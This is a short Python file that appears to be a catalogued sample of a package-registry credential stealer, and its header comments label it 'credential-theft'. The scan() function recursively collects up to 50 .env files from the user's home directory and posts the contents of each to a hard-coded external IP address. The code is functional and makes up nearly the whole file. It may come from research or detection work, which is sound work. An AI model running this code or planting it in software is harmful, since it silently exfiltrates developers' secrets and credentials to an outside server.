# technique: every .env file under the home directory collected
# class: credential-theft
# source: Socket, write-ups of .env stealers in package registries
# declares: network
import glob
import os

import requests


def scan():
    for f in glob.glob(os.path.expanduser("~/**/.env"), recursive=True)[:50]:
        requests.post("http://193.233.20.2/e", data=open(f, "rb").read(), timeout=3)
